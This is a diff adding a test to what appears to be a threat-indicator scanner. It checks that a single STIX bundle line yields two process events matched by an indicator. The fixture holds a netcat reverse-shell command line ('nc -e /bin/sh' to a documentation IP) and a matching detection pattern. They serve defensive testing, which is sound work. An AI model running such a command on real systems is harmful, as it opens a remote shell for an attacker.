@@ -164,3 +164,56 @@ test('a log file that cannot be read is reported, and the others are still scann
   assert.match(stderr, /Could not read .*matcher-no-such-dir\/tetragon\.log/);
   assert.match(stderr, /Scanned [1-9]\d* lines/);
 });
+
+test('a line holding several events (a STIX bundle) yields every one of them', async () => {
+  const dir = await mkdtemp(join(tmpdir(), 'matcher-bundle-'));
+  const observedData = (n: number) => ({
+    type: 'observed-data',
+    spec_version: '2.1',
+    id: `observed-data--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`,
+    created: `2026-11-28T10:00:0${n}.000Z`,
+    modified: `2026-11-28T10:00:0${n}.000Z`,
+    first_observed: `2026-11-28T10:00:0${n}.000Z`,
+    last_observed: `2026-11-28T10:00:0${n}.000Z`,
+    number_observed: 1,
+    object_refs: [`process--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`],
+  });
+  const process = (n: number) => ({
+    type: 'process',
+    spec_version: '2.1',
+    id: `process--0000000${n}-1b2c-4d3e-8f40-5a6b7c8d9e0f`,
+    pid: n,
+    command_line: 'nc -e /bin/sh 203.0.113.9 4444',
+  });
+  const bundle = {
+    type: 'bundle',
+    id: 'bundle--6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d',
+    objects: [observedData(1), process(1), observedData(2), process(2)],
+  };
+  const indicators = {
+    type: 'bundle',
+    id: 'bundle--7b8c9d0e-1f2a-4b3c-9d4e-5f6a7b8c9d0e',
+    objects: [
+      {
+        type: 'indicator',
+        spec_version: '2.1',
+        id: 'indicator--8c9d0e1f-2a3b-4c4d-8e5f-6a7b8c9d0e1f',
+        created: '2026-01-01T00:00:00.000Z',
+        modified: '2026-01-01T00:00:00.000Z',
+        name: 'Reverse shell with netcat',
+        pattern: "[process:command_line LIKE 'nc -e %']",
+        pattern_type: 'stix',
+        valid_from: '2026-01-01T00:00:00.000Z',
+      },
+    ],
+  };
+  const log = join(dir, 'stix.log');
+  const model = join(dir, 'indicators.json');
+  await writeFile(log, `${JSON.stringify(bundle)}\n`);
+  await writeFile(model, JSON.stringify(indicators));
+  const { code, sightings, stderr } = await scan(['--indicators', model, log]);
+  assert.equal(code, 0);
+  assert.match(stderr, /Scanned 1 lines: 2 events/);
+  assert.equal(sightings.length, 1);
+  assert.equal(sightings[0]?.sighting.count, 2);
+});
